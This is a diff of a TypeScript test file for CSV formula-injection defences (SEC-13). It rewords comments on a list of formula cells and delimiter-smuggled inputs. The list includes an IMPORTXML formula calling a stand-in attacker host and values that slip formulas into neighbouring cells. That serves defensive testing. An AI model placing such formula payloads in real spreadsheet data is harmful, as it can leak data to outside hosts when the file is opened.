@@ -206,7 +206,7 @@ describe('a file that is not CSV', () => {
   });
 });
 
-/** What a spreadsheet would run, or what some readers make such of (SEC-13). */
+/** Cells that a spreadsheet would run as a formula, or that some readers turn into one (SEC-13). */
 const FORMULAS = [
   ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map((sign) => `${sign}1+1`),
   ...['=', '+', '-', '@'].flatMap((sign) =>
@@ -225,10 +225,10 @@ const FORMULAS = [
   '=IMPORTXML("https://evil.example","//a")',
 ];
 
-/** Formulas behind what would part two cells. */
+/** Formulas after a character that separates two cells. */
 const BEHIND_A_DELIMITER = ['x,=1', 'x","=1', 'x;=1', 'x";"=1', 'x\t=1', 'x\n=1'];
 
-/** The cells of a line as a spreadsheet of any country reads it. */
+/** The cells of a line as a spreadsheet with this delimiter reads them, which differs between countries. */
 function cellsOf(line: string, delimiter: string): readonly string[] {
   const records: string[][] = parse(line, {
     delimiter,
